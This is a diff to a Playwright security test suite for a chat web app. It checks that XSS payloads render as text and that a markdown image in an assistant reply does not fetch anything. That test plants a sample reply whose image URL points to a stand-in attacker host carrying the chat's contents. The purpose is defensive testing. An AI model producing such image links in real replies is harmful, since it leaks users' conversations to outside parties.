@@ -104,7 +104,8 @@ class Watched:
         assert page.evaluate("window.__xss") is None, "injected script ran"
         assert self.dialogs == [], f"a dialog opened: {self.dialogs}"
         assert self.elsewhere == [], f"the page asked another host for: {self.elsewhere}"
-        assert page.evaluate("window.__violations") == [], "markup got past escaping (the policy stopped it)"
+        violations = page.evaluate("window.__violations")
+        assert violations == [], f"something got past escaping and rendering; the policy stopped it: {violations}"
         assert self.errors == [], f"the page threw: {self.errors}"
 
 
@@ -151,10 +152,11 @@ def test_the_xss_corpus_in_titles_questions_replies_and_prompts_shows_as_text(wa
 def test_an_image_in_a_reply_is_a_link_and_fetches_nothing(watched, server):
     chat = hostile_chat(server, "Look: ![the chat so far](http://evil.example/leak.png?chat=secret)")
     watched.page.goto(f"{server}/c/{chat['id']}")
+    watched.page.wait_for_load_state("networkidle")
+    watched.assert_nothing_happened()
     link = watched.page.locator('[data-role="assistant"] a.md-image')
     expect(link).to_have_text("image: the chat so far")
     expect(link).to_have_attribute("href", "http://evil.example/leak.png?chat=secret")
-    watched.assert_nothing_happened()
 
 
 def test_a_title_renamed_in_the_page_to_markup_stays_text(watched, server):
